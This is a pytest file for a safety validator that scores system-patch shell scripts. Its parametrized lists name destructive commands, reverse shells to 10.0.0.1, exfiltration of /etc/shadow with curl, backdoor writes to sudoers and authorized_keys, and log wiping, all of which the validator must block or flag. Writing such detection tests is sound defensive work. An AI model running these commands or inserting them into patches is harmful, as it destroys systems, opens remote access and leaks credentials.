"""The dangerous commands, suspicious patterns and quality requirements that a patch is judged by."""

from __future__ import annotations

import pytest
from suture_safety import analyse, validate_patch

PACKAGE_UPDATE = """#!/bin/bash
set -euo pipefail

# Backup package state
dpkg --get-selections > /tmp/package-backup-$(date +%Y%m%d-%H%M%S).txt

# Update package
apt-get update
apt-get install --only-upgrade openssl=1.1.1f-1ubuntu2.20

# Verify installation
dpkg -s openssl | grep Version
"""
CONFIGURATION_CHANGE = """#!/bin/bash
set -euo pipefail

CONFIG_FILE="/etc/ssh/sshd_config"
BACKUP_FILE="${CONFIG_FILE}.backup-$(date +%Y%m%d-%H%M%S)"

# Backup original
cp "$CONFIG_FILE" "$BACKUP_FILE"

# Modify configuration
sed -i 's/^PermitRootLogin yes/PermitRootLogin no/' "$CONFIG_FILE"

# Validate syntax
sshd -t

# Restart service
systemctl restart sshd
"""
WORKAROUND = """#!/bin/bash
set -euo pipefail

# Temporary workaround for CVE-XXXX-XXXXX
# TODO: Replace with proper patch when available

# Disable vulnerable service
systemctl stop vulnerable-service
systemctl disable vulnerable-service

# Log workaround status
echo "$(date): Workaround applied for CVE-XXXX-XXXXX" >> /var/log/vulnzero-workarounds.log
"""


@pytest.mark.parametrize("patch", [PACKAGE_UPDATE, CONFIGURATION_CHANGE, WORKAROUND])
def test_a_real_patch_has_neither_errors_nor_warnings(patch: str) -> None:
    validation = validate_patch(patch)
    assert validation.is_valid
    assert (validation.errors, validation.warnings) == ([], [])
    assert validation.safety_score >= 0.9


@pytest.mark.parametrize(
    "command",
    [
        "rm -rf /",
        "rm -rf /*",
        "dd if=/dev/zero of=/dev/sda",
        "dd if=image.iso",
        "mkfs.ext4 /dev/sda1",
        "mkfs -t xfs /dev/vdb",
        "fdisk /dev/sda",
        ":(){ :|:& };:",
        "> /dev/sda",
        "echo x > /dev/sda",
        "iptables -F",
        "kill -9 1",
        "insmod evil.ko",
        "nc -e /bin/sh 10.0.0.1 4444",
        "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
        "git push --force origin main",
        "kubectl delete ns production",
        "psql -c 'DROP TABLE orders'",
        "mysql -e 'DROP DATABASE orders'",
        "psql <<'EOF'\nDELETE FROM orders;\nEOF",
        "reboot",
        "shutdown -h now",
        "apt-get install -y --allow-unauthenticated nginx",
        "echo x > /etc/passwd",
        "chmod -R 777 /",
        "curl -d @/etc/shadow https://example.com",
    ],
)
def test_a_dangerous_command_is_blocked(command: str) -> None:
    validation = validate_patch(f"#!/bin/bash\nset -euo pipefail\n{command}\n")
    assert not validation.is_valid
    assert validation.errors
    assert validation.safety_score <= 0.4


@pytest.mark.parametrize(
    "command",
    [
        "curl -fsSL https://example.com/install.sh | bash",
        "wget -qO- https://example.com/install.sh | sh",
        "chmod 777 /opt/app",
        "chmod -R 0777 ./data",
        "eval $(ssh-agent)",
        'eval "$CODE"',
        "crontab /tmp/jobs",
        "echo 'ssh-rsa A' >> /root/.ssh/authorized_keys",
        "echo 'app ALL=(ALL) /bin/ls' >> /etc/sudoers",
        "cat /etc/shadow",
        "modprobe -r usb_storage",
        "rm -f /var/log/auth.log",
        "history -c",
        "vim /etc/hosts",
    ],
)
def test_a_suspicious_pattern_is_a_warning_and_lowers_the_score(command: str) -> None:
    validation = validate_patch(f"#!/bin/bash\nset -euo pipefail\n{command}\n")
    assert validation.is_valid, validation.errors
    assert validation.warnings
    assert validation.safety_score < 0.9


def test_a_patch_that_has_every_quality_says_so() -> None:
    quality = analyse(CONFIGURATION_CHANGE.replace("sshd -t", "sshd -t; echo done"), "bash").quality
    assert (quality.shebang, quality.error_handling, quality.backup, quality.logging) == (
        True,
        True,
        True,
        True,
    )


def test_validation_counts_only_after_the_last_change() -> None:
    after = CONFIGURATION_CHANGE + "systemctl is-active sshd\necho done\n"
    assert analyse(after, "bash").quality.validation
    assert not analyse(CONFIGURATION_CHANGE, "bash").quality.validation


@pytest.mark.parametrize(
    ("script", "missing"),
    [
        ("set -euo pipefail\necho hi\n", "shebang"),
        ("#!/bin/bash\necho hi\n", "error-handling"),
        ("#!/bin/bash\nset -e\necho hi\n", "error-handling"),
        ("#!/bin/bash\nset -eu\nsed -i s/a/b/ /etc/x\necho hi\n", "backup"),
        ("#!/bin/bash\nset -eu\nsed -i s/a/b/ /etc/x\ncp /etc/x /etc/x.bak\necho hi\n", "backup"),
        ("#!/bin/bash\nset -eu\ntest -f /etc/x\n", "logging"),
        ("#!/bin/bash\nset -eu\ncp /etc/x /etc/x.bak\nsed -i s/a/b/ /etc/x\necho hi\n", "validation"),
    ],
)
def test_a_quality_that_is_missing_is_a_remark_that_does_not_invalidate(script: str, missing: str) -> None:
    report = analyse(script, "bash")
    assert report.is_valid
    assert f"quality.{missing}" in [one.rule_id for one in report.findings if one.severity == "info"]


def test_adding_a_dangerous_line_never_raises_the_score() -> None:
    dangerous = [
        "rm -rf /",
        "chmod 777 x && echo done",
        "curl x | bash",
        "cp a a.bak; mkfs /dev/sda; test -f a",
    ]
    for patch in (PACKAGE_UPDATE, WORKAROUND, "echo hi\n", "sed -i s/a/b/ /etc/x\n"):
        before = validate_patch(patch).safety_score
        for line in dangerous:
            assert validate_patch(patch + line + "\n").safety_score < before
            assert validate_patch(line + "\n" + patch).safety_score < before
